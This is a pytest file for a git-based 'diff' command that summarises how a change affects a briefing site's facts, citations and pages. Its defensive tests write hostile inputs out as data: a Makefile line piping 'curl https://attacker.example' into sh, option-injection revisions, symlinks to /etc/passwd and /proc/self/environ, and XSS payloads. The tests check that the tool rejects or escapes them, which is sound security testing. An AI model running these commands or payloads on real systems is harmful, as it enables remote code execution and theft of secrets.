"""`diff BASE` tells a reviewer what a change does, between two real git revisions."""

from __future__ import annotations

import subprocess
from pathlib import Path

from tests.conftest import Run


def git(root: Path, *args: str) -> None:
    subprocess.run(["git", "-C", str(root), *args], check=True, capture_output=True)


def commit_all(root: Path) -> None:
    git(root, "add", "-A")
    git(root, "-c", "user.name=t", "-c", "user.email=t@example.org", "commit", "-qm", "base")


def diff_after_edits(corpus: Path, run: Run, path: str, *edits: tuple[str, str]) -> str:
    """Commit the corpus, edit one of its files, and return what `diff HEAD` says (it must succeed)."""
    git(corpus, "init", "-q")
    commit_all(corpus)
    text = (corpus / path).read_text(encoding="utf-8")
    for old, new in edits:
        assert old in text, old
        text = text.replace(old, new)
    (corpus / path).write_text(text, encoding="utf-8")
    code, out, err = run(corpus, "diff", "HEAD")
    assert (code, err) == (0, "")
    return out


def test_diff_lists_facts_citations_conflicts_and_briefings(corpus: Path, run: Run) -> None:
    git(corpus, "init", "-q")
    commit_all(corpus)
    facts = corpus / "content" / "facts" / "port.yaml"
    text = facts.read_text(encoding="utf-8")
    text = text.replace("promised a review, due in March.", "promised a review.")
    text = text.replace("      - source: shipping-wire\n        quote: The review will report in March.\n", "")
    facts.write_text(text, encoding="utf-8")
    briefing = corpus / "content" / "briefings" / "port-delays.yaml"
    briefing.write_text(
        briefing.read_text(encoding="utf-8").replace("A review will report in March.", "A review was promised."),
        encoding="utf-8",
    )
    code, out, err = run(corpus, "diff", "HEAD")
    assert (code, err) == (0, "")
    assert out == (
        "## What this change does to the briefings (against `HEAD`)\n\n"
        "### Facts changed (1)\n\n"
        "- `minister-review`\n"
        '  - claim before: The minister called the backlog "unacceptable" and promised a review, due in March.\n'
        '  - claim after: The minister called the backlog "unacceptable" and promised a review.\n'
        "  - citation dropped: `shipping-wire`: “The review will report in March.”\n\n"
        "The pages that change are named by their files in the site this change builds.\n\n"
        "### Briefings and PDFs that change (1)\n\n"
        "- Port delays (`briefings/port-delays/index.html`), its PDF (`pdf/port-delays.pdf`) "
        "and the combined PDF (`pdf/all-briefings.pdf`)\n\n"
        "### Other pages that change (3)\n\n"
        "- `sources/harbour-daily/index.html`\n"
        "- `sources/shipping-wire/index.html`\n"
        "- `topics/index.html`\n"
    )


def test_the_pages_that_change_link_into_the_preview_when_it_has_an_address(corpus: Path, run: Run) -> None:
    git(corpus, "init", "-q")
    commit_all(corpus)
    briefing = corpus / "content" / "briefings" / "port-delays.yaml"
    text = briefing.read_text(encoding="utf-8")
    briefing.write_text(text.replace("title: Port delays", "title: Port delays & <b>backlogs</b>"), encoding="utf-8")
    code, out, err = run(corpus, "diff", "HEAD", "--preview-url", "https://preview.example.org/pr-7")
    assert (code, err) == (0, "")
    preview = "https://preview.example.org/pr-7/"
    assert out.endswith(
        "### Briefings and PDFs that change (1)\n\n"
        f"- [Port delays &amp; &lt;b&gt;backlogs&lt;/b&gt;]({preview}briefings/port-delays/), "
        f"[its PDF]({preview}pdf/port-delays.pdf) and [the combined PDF]({preview}pdf/all-briefings.pdf)\n\n"
        "### Other pages that change (6)\n\n"
        f"- [briefings/]({preview}briefings/)\n"
        f"- [home page]({preview})\n"
        f"- [sources/dock-bulletin/]({preview}sources/dock-bulletin/)\n"
        f"- [sources/harbour-daily/]({preview}sources/harbour-daily/)\n"
        f"- [sources/shipping-wire/]({preview}sources/shipping-wire/)\n"
        f"- [topics/]({preview}topics/)\n"
    )
    assert "named by their files" not in out
    code, out, err = run(corpus, "diff", "HEAD", "--preview-url", "javascript:alert(1)")
    assert (code, out) == (1, "")
    assert err == (
        "error: --preview-url 'javascript:alert(1)' is not a web address; give the preview site's http(s) address\n"
    )


def test_diff_shows_a_new_disagreement(corpus: Path, run: Run) -> None:
    out = diff_after_edits(corpus, run, "content/facts/port.yaml", ("reports: About 150 ships", "reports: 150 ships"))
    assert "### New disagreements between sources (1)\n\n- `ships-delayed` (the number of delayed ships): " in out
    assert "`shipping-wire` reports “150 ships”" in out


def test_diff_of_an_unknown_revision_is_a_clear_error(corpus: Path, run: Run) -> None:
    git(corpus, "init", "-q")
    commit_all(corpus)
    code, out, err = run(corpus, "diff", "no-such-branch")
    assert code == 1 and out == ""
    assert err.startswith("error: cannot read revision 'no-such-branch': ")


def test_a_revision_is_never_read_as_an_option(corpus: Path, run: Run, tmp_path: Path) -> None:
    git(corpus, "init", "-q")
    commit_all(corpus)
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me", encoding="utf-8")
    for revision in (f"--output={victim}", "--remote=https://attacker.example/repo.git", "-h"):
        code, out, err = run(corpus, "diff", "--", revision)
        assert (code, out) == (1, "")
        assert err == f"error: cannot read revision '{revision}': git knows no such commit\n"
    assert victim.read_text(encoding="utf-8") == "keep me"


def test_links_in_the_base_revision_are_left_out_not_followed(corpus: Path, run: Run) -> None:
    git(corpus, "init", "-q")
    (corpus / "content" / "pages" / "environ.md").symlink_to("/proc/self/environ")
    (corpus / "content" / "facts" / "secret.yaml").symlink_to("../../../../../../etc/passwd")
    commit_all(corpus)
    (corpus / "content" / "pages" / "environ.md").unlink()
    (corpus / "content" / "facts" / "secret.yaml").unlink()
    code, out, err = run(corpus, "diff", "HEAD")
    assert (code, err) == (0, "")
    assert "root:" not in out and "PATH=" not in out


def test_a_reading_changed_is_shown_and_wording_that_varies_is_no_new_disagreement(corpus: Path, run: Run) -> None:
    out = diff_after_edits(
        corpus,
        run,
        "content/facts/editorial.yaml",
        ("reports: to finish shortly", "reports: finish shortly"),
        ("means: unloaded 30 containers", "means: took off 30 containers"),
    )
    assert (
        "  - editors' reading of `dock-bulletin`: “Dock workers downloaded 30 containers from the stranded ships.”: "
        "“unloaded 30 containers” (translation-slip) → “took off 30 containers” (translation-slip)\n"
    ) in out
    assert "New disagreements" not in out


def test_what_a_contributor_wrote_is_escaped_in_the_summary(corpus: Path, run: Run) -> None:
    out = diff_after_edits(
        corpus,
        run,
        "content/facts/port.yaml",
        (
            "differs_on: the number of delayed ships",
            "differs_on: the count <img src=x onerror=alert(1)> [x](javascript:y)",
        ),
    )
    assert (
        "  - differs_on: the number of delayed ships → the count &lt;img src=x onerror=alert(1)&gt; \\[x\\](javascript:y)"
        in out
    )
    assert "<img" not in out


def test_the_summary_says_when_a_change_touches_code(corpus: Path, run: Run) -> None:
    git(corpus, "init", "-q")
    (corpus / "Makefile").write_text("all:\n", encoding="utf-8")
    (corpus / "mkdocs.yml").write_text("site_name: briefings\n", encoding="utf-8")
    commit_all(corpus)
    (corpus / "Makefile").write_text("all:\n\tcurl https://attacker.example | sh\n", encoding="utf-8")
    (corpus / "mkdocs.yml").write_text("site_name: x\n", encoding="utf-8")
    code, out, _ = run(corpus, "diff", "HEAD")
    assert code == 0
    assert (
        "**This change also touches code or configuration (2 files); a maintainer must review it:**\n\n"
        "- `Makefile`\n- `mkdocs.yml`\n\n"
    ) in out
